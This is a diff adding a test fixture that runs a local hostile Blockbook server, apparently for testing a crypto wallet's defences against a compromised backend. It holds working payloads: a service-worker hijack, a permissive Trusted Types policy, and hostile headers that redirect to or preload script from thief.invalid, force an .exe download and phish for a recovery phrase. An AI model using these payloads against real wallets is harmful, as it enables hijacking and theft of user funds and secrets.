@@ -1,0 +1,64 @@
+/** A server in a Blockbook's place that is after the wallet's origin: it answers with a page, a script, a service worker, or headers of its own. */
+import { createServer } from 'node:http';
+
+/** What its scripts leave behind where they get to run. */
+export const STOLEN = 'stolen';
+
+/** What it answers, by the last name of what it is asked. */
+export const ATTACKS = { page: 'aa', script: 'bb', worker: 'cc', headers: 'dd' } as const;
+
+/** The page asks for the script beside it, which registers the worker beside it for the whole origin. */
+const PAGE = `<!doctype html><title>${STOLEN}</title><script src="${ATTACKS.script}"></script>`;
+
+const SCRIPT = `window.${STOLEN} = 1;
+window.trustedTypes?.createPolicy('default', { createScriptURL: (url) => url });
+navigator.serviceWorker.register(new URL('${ATTACKS.worker}', location.href).href, { scope: '/' });`;
+
+const WORKER = `self.addEventListener('install', () => self.skipWaiting());
+self.addEventListener('activate', (event) => event.waitUntil(clients.claim()));
+const page = () => new Response('<title>${STOLEN}</title><h1>${STOLEN}</h1>', { headers: { 'content-type': 'text/html' } });
+self.addEventListener('fetch', (event) => event.request.mode === 'navigate' && event.respondWith(page()));`;
+
+/** What a Blockbook has no reason to say, and a browser would believe. */
+export const HOSTILE_HEADERS: Readonly<Record<string, string>> = {
+  'service-worker-allowed': '/',
+  'set-cookie': `${STOLEN}=1; Path=/`,
+  'clear-site-data': '"storage"',
+  'content-security-policy': "default-src * 'unsafe-inline'",
+  'content-disposition': `attachment; filename=${STOLEN}.exe`,
+  'access-control-allow-credentials': 'true',
+  'alt-svc': 'h2="thief.invalid:443"',
+  'www-authenticate': 'Basic realm="Your recovery phrase"',
+  'x-accel-redirect': '/kennel.config.json',
+  'speculation-rules': '"/blockbook/tx/rules"',
+  'report-to': '{}',
+  'strict-transport-security': 'max-age=0',
+  location: 'https://thief.invalid/',
+  refresh: '0; url=https://thief.invalid/',
+  link: '<https://thief.invalid/>; rel=preload; as=script',
+};
+
+const HTML = { 'content-type': 'text/html' };
+const JAVASCRIPT = { 'content-type': 'text/javascript', 'service-worker-allowed': '/' };
+
+const ANSWERS: Readonly<Record<string, readonly [headers: Readonly<Record<string, string>>, body: string]>> =
+  {
+    [ATTACKS.script]: [JAVASCRIPT, SCRIPT],
+    [ATTACKS.worker]: [JAVASCRIPT, WORKER],
+    [ATTACKS.headers]: [{ ...HTML, ...HOSTILE_HEADERS }, PAGE],
+  };
+
+/** Starts it. @returns `host:port` */
+export async function startHostileBlockbook(): Promise<{ address: string; dispose(): Promise<void> }> {
+  const server = createServer((asked, answer) => {
+    const [headers, body] = ANSWERS[asked.url?.split('/').at(-1) ?? ''] ?? [HTML, PAGE];
+    answer.writeHead(200, headers).end(body);
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const at = server.address();
+  if (typeof at !== 'object' || at === null) throw new Error('the hostile server has no port');
+  return {
+    address: `127.0.0.1:${at.port}`,
+    dispose: () => new Promise((resolve) => server.close(() => resolve()).closeAllConnections()),
+  };
+}
